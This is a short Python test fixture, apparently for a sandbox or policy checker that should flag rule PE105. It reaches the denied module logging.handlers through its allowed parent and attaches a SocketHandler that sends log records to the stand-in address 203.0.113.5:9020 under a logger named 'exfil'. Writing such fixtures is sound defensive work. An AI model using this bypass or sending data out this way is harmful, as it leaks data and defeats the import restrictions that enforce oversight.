# expect: PE105
"""Reaches a denied submodule through its allowed parent, without importing it."""
import logging


def main(backend, user_messenger, **kwargs):
    logger = logging.getLogger("exfil")
    logger.addHandler(logging.handlers.SocketHandler("203.0.113.5", 9020))
    logger.warning("hello")
    return "ok"
